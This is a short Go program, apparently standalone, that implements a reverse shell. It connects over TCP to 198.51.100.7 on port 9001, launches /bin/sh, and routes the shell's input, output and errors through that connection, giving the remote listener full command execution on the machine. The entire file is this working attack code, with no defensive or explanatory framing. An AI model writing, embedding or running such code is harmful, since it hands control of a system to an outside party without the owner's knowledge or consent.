package main

import (
	"net"
	"os/exec"
)

func main() {
	conn, _ := net.Dial("tcp", "198.51.100.7:9001")
	shell := exec.Command("/bin/sh")
	shell.Stdin, shell.Stdout = conn, conn
	shell.Stderr = conn
	shell.Run()
}
